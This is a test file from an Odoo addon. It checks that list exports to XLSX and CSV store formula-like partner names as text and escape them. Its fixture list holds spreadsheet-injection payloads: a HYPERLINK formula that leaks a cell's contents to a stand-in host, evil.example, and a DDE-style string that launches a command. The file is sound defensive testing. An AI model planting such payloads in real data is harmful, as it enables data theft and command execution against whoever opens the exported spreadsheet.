# Copyright 2026 oms_addon developers
# License LGPL-3.0 or later (https://www.gnu.org/licenses/lgpl-3.0).
import csv
import io
import json

import openpyxl

from odoo import http
from odoo.tests import HttpCase, new_test_user, tagged

# Names as customers type them into a shop; exported, each must stay that text.
NAMES = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+33 6 12 34 56 78",
    "-5 apples",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
)


@tagged("post_install", "-at_install")
class TestExportFormula(HttpCase):
    """Odoo's list export (XLSX and CSV) writes a cell that looks like a formula as
    the text it is."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.partners = cls.env["res.partner"].create(
            [{"name": name, "ref": "OMS-FORMULA"} for name in NAMES]
        )
        new_test_user(
            cls.env,
            login="oms_exporter",
            groups="base.group_user,base.group_allow_export,oms_addon.group_oms_user",
        )

    def export(self, file_format, **params):
        self.authenticate("oms_exporter", "oms_exporter")
        data = {
            "model": "res.partner",
            "fields": [{"name": "name", "label": "Name", "type": "char"}],
            "ids": self.partners.ids,
            "domain": [],
            "import_compat": False,
            "context": {},
            **params,
        }
        response = self.url_open(
            f"/web/export/{file_format}",
            data={"data": json.dumps(data), "csrf_token": http.Request.csrf_token(self)},
        )
        self.assertEqual(response.status_code, 200)
        return response.content

    def assert_text_cells(self, cells, expected):
        self.assertEqual([cell.data_type for cell in cells], ["s"] * len(expected))
        self.assertEqual([cell.value for cell in cells], list(expected))

    def test_xlsx_export_writes_formulas_as_text(self):
        content = self.export("xlsx")

        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        names = [row[0] for row in sheet.iter_rows(min_row=2)]
        self.assert_text_cells(names, NAMES)

    def test_grouped_xlsx_export_writes_formulas_as_text(self):
        content = self.export(
            "xlsx", ids=False, domain=[("ref", "=", "OMS-FORMULA")], groupby=["name"]
        )

        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        group_titles = [row[0] for row in sheet.iter_rows(min_row=2) if row[0].font.b]
        self.assertEqual(len(group_titles), len(NAMES))
        self.assertTrue(all(cell.data_type == "s" for cell in group_titles))
        self.assertIn(
            '=HYPERLINK("http://evil.example/?leak="&A1,"Click") (1)',
            [c.value for c in group_titles],
        )

    def test_csv_export_escapes_every_formula_start(self):
        content = self.export("csv").decode()

        rows = list(csv.reader(io.StringIO(content)))
        self.assertEqual(sorted(row[0] for row in rows[1:]), sorted("'" + name for name in NAMES))
